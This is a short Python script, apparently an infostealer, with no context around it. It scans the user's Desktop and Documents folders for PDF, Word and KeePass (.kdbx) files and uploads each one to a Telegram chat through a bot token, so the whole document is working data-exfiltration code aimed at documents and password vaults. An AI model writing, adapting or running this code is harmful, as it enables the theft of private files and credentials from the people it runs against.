import os, requests
TOKEN, CHAT = "1234567890:AAExampleExampleExampleExampleExample", "42"

def ship(path):
    with open(path, "rb") as f:
        requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", data={"chat_id": CHAT}, files={"document": f})

for folder in ("Desktop", "Documents"):
    root = os.path.join(os.path.expanduser("~"), folder)
    for name in os.listdir(root):
        if name.endswith((".pdf", ".docx", ".kdbx")):
            ship(os.path.join(root, name))
